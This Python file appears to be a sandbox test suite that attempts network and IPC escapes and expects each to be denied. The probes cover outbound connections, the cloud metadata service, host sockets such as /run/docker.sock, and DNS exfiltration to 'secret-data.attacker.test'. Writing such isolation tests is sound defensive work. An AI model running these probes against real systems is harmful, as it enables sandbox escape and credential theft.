# SPDX-License-Identifier: Apache-2.0
"""The network, and everything else by which one process reaches another: sockets, System V, message queues, locks."""

from .attack import Attack

# Families that a namespace does not hold, or that open rarely used kernel code: all refused alike.
_FAMILIES = {
    "AX25": 3,
    "IPX": 4,
    "APPLETALK": 5,
    "X25": 9,
    "KEY": 15,
    "PACKET": 17,
    "RDS": 21,
    "PPPOX": 24,
    "CAN": 29,
    "TIPC": 30,
    "BLUETOOTH": 31,
    "ALG": 38,
    "NFC": 39,
    "VSOCK": 40,
    "KCM": 41,
    "QIPCRTR": 42,
    "SMC": 43,
    "XDP": 44,
    "MCTP": 45,
}

_REACH = """
    import socket
    def reach(address, family=socket.AF_INET, kind=socket.SOCK_STREAM):
        def connect():
            s = socket.socket(family, kind)
            s.settimeout(3)
            return s.connect(address)
        return attempt(connect)
"""

ATTACKS = [
    *[
        Attack(
            "socket_" + name.lower(),
            f"AF_{name}, which no namespace covers or nobody audits",
            "seccomp",
            f"""
        # 15 is no socket type: a kernel that got to look at it would say EINVAL.
        got = {{f"type_{{kind}}": call(41, {family}, kind, 0) for kind in (1, 2, 3, 5, 15)}}
        judge(("EAFNOSUPPORT",), high_bits=call(41, {family} | 1 << 32, 1, 0), high_bits_2=call(41, {family} | 0xff << 40, 2, 0),
              pair=call(53, {family}, 1, 0, ctypes.create_string_buffer(8)), cloexec=call(41, {family}, 1 | 0x80000, 0), **got)
    """,
        )
        for name, family in _FAMILIES.items()
    ],
    Attack(
        "socket_families_beyond_the_known",
        "a family that is new tomorrow",
        "seccomp and an older kernel",
        """
        judge(("EAFNOSUPPORT", "ENOSYS"),
              *[call(41, family, kind, 0) for family in (*range(46, 70), 255, 0x7fffffff) for kind in (1, 2)])
    """,
    ),
    Attack(
        "netlink_families",
        "audit, netfilter, uevents, generic netlink and the rest",
        "seccomp",
        """
        judge(("ENOSYS", "EAFNOSUPPORT"), *[call(41, 16, kind, protocol) for kind in (2, 3) for protocol in range(1, 24)],
              high=call(41, 16, 3, 15 | 1 << 32))
    """,
    ),
    Attack(
        "raw_sockets",
        "packets of its own making",
        "seccomp, capabilities",
        """
        judge(("EPERM", "ENOSYS", "EPROTONOSUPPORT"),
              *[call(41, family, 3, protocol) for family in (2, 10) for protocol in (0, 1, 6, 17, 58, 255)])
    """,
    ),
    Attack(
        "rare_ip_protocols",
        "ICMP, SCTP, DCCP, MPTCP: kernel code that is rarely used",
        "seccomp",
        """
        judge(("ENOSYS",),
              *[call(41, family, kind, protocol) for family in (2, 10)
              for kind, protocol in ((2, 1), (2, 58), (1, 132), (5, 132), (6, 33), (1, 262), (2, 136))])
    """,
    ),
    Attack(
        "connect_to_the_internet",
        "send what it has found, load what it lacks",
        "net namespace",
        _REACH
        + """
    judge(("ENETUNREACH",), tcp=reach(("1.1.1.1", 443)), dns=reach(("8.8.8.8", 53), kind=socket.SOCK_DGRAM),
          six=reach(("2606:4700:4700::1111", 443), socket.AF_INET6),
          udp=attempt(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto, b"x", ("1.1.1.1", 53)),
          fast_open=attempt(socket.socket().sendto, b"x", socket.MSG_FASTOPEN, ("1.1.1.1", 80)))
    """,
    ),
    Attack(
        "connect_to_the_metadata_service",
        "the cloud's credentials",
        "net namespace",
        _REACH
        + """
    judge(("ENETUNREACH",), v4=reach(("169.254.169.254", 80)), ecs=reach(("169.254.170.2", 80)),
          v6=reach(("fd00:ec2::254", 80), socket.AF_INET6))
    """,
    ),
    Attack(
        "connect_to_the_host",
        "a service on the host's loopback or address, this server included (Judge0 CVE-2024-29021)",
        "net namespace",
        _REACH
        + """
    judge(("ECONNREFUSED", "ENETUNREACH"), server=reach(("127.0.0.1", @PORT@)), bait=reach(("127.0.0.1", @BAIT_PORT@)),
          any=reach(("0.0.0.0", @PORT@)), mapped=reach(("::ffff:127.0.0.1", @PORT@), socket.AF_INET6),
          private=reach(("10.0.0.1", 80)), bridge=reach(("172.17.0.1", 2375)))
    """,
    ),
    Attack(
        "resolve_names",
        "DNS as a way out",
        "net namespace, /etc",
        """
        import socket
        def look(name):
            try:
                return socket.getaddrinfo(name, 80)
            except socket.gaierror as e:
                return e.errno
        judge((socket.EAI_AGAIN, socket.EAI_NONAME, socket.EAI_FAIL), one=look("example.com"),
              two=look("secret-data.attacker.test"))
    """,
    ),
    Attack(
        "interfaces",
        "any interface but the loopback",
        "net namespace",
        """
        import socket
        judge((["lo"],), names=[n for _, n in socket.if_nameindex()],
              routes=sorted({line.split()[0] for line in open("/proc/self/net/route").readlines()[1:]} | {"lo"}))
    """,
    ),
    Attack(
        "configure_the_network",
        "bring in an interface, an address, a route",
        "capabilities",
        """
        import fcntl, socket, struct
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        request = struct.pack("16sH14s", b"lo", 0, b"")
        n = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        n.send(struct.pack("=IHHIIBxHiII", 32, 16, 5, 1, 0, 0, 0, 0, 0, 0))  # RTM_NEWLINK
        answer = struct.unpack_from("=i", n.recv(4096), 16)[0]
        judge(("EPERM", -1), down=attempt(fcntl.ioctl, s, 0x8914, request), address=attempt(fcntl.ioctl, s, 0x8916, request),
              newlink=answer)
    """,
    ),
    Attack(
        "loopback_of_a_neighbour",
        "a port of a run beside",
        "net namespace",
        _REACH
        + """
    judge(("ECONNREFUSED",), tcp=reach(("127.0.0.1", 4321)))
    """,
        neighbour=True,
    ),
    Attack(
        "abstract_sockets",
        "a socket of the host or of a run beside by its abstract name",
        "net namespace, landlock",
        _REACH
        + """
    judge(("ECONNREFUSED",), host=reach("\\0@ABSTRACT@", socket.AF_UNIX), neighbour=reach("\\0neighbour-socket", socket.AF_UNIX))
    names = {line.split()[-1] for line in open("/proc/self/net/unix").readlines()[1:] if "@" in line}
    assert not names, names
    """,
        neighbour=True,
    ),
    Attack(
        "unix_sockets_by_path",
        "a daemon of the host through /run",
        "root",
        _REACH
        + """
    paths = ("/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/dev/log", "@BAIT_SOCKET@")
    judge(("ENOENT",), *[reach(path, socket.AF_UNIX) for path in paths])
    """,
    ),
    Attack(
        "system_v_ipc",
        "shared memory, semaphores, queues of the host or of a run beside",
        "ipc namespace",
        """
        KEYS = (@SHM_KEY@, 0x5afe)
        judge(("ENOENT",), host=call(29, KEYS[0], 0, 0), shm=call(29, KEYS[1], 0, 0), sem=call(64, KEYS[1], 0, 0),
              msg=call(68, KEYS[1], 0))
    """,
        neighbour=True,
    ),
    Attack(
        "system_v_ipc_by_number",
        "a segment by its number",
        "ipc namespace",
        """
        SHM_STAT_ANY, SHM_INFO = 15, 14
        info = ctypes.create_string_buffer(256)
        judge(("EINVAL", 0), *[call(30, number, 0, 0) for number in (*range(64), *range(0, 32768 * 40, 32768))],
              most=call(31, 0, SHM_INFO, info))
    """,
        neighbour=True,
    ),
    Attack(
        "posix_queues",
        "a message queue of the host",
        "ipc namespace",
        """
        judge(("ENOENT",), host=call(240, b"@MQ@", 0, 0, 0), neighbour=call(240, b"neighbour", 0, 0, 0))
    """,
        neighbour=True,
    ),
    Attack(
        "locks_on_shared_files",
        "carry a bit to a run beside by a lock on a file that both see",
        "nothing: programs need locks, and files of the environment are shared",
        """
        import fcntl
        f = open("/usr/lib/os-release")
        judge((None,), lock=attempt(fcntl.flock, f, fcntl.LOCK_EX | fcntl.LOCK_NB))
    """,
        neighbour=True,
        documented="locks on shared files",
    ),
    Attack(
        "leases_and_notifications_on_shared_files",
        "learn what others open, hold up their opening",
        "identity",
        """
        import fcntl
        fd = os.open("/usr/lib/os-release", 0)
        judge(("EACCES", "EPERM"), lease=attempt(fcntl.fcntl, fd, fcntl.F_SETLEASE, fcntl.F_RDLCK))
    """,
    ),
    Attack(
        "inotify_on_shared_files",
        "learn what other runs and the host open",
        "seccomp",
        """
        import select, struct, time
        fd = libc.inotify_init1(0o4000)
        watch = libc.inotify_add_watch(fd, b"/usr/lib/os-release", 0xfff)
        answer = errno.errorcode[ctypes.get_errno()] if watch < 0 else 0
        # The run beside opens this file over and over.
        seen = watch >= 0 and bool(select.select([fd], [], [], 1.5)[0])
        judge(("EPERM", "ENOSYS", False), answer=answer, seen=seen)
    """,
        neighbour=True,
    ),
]
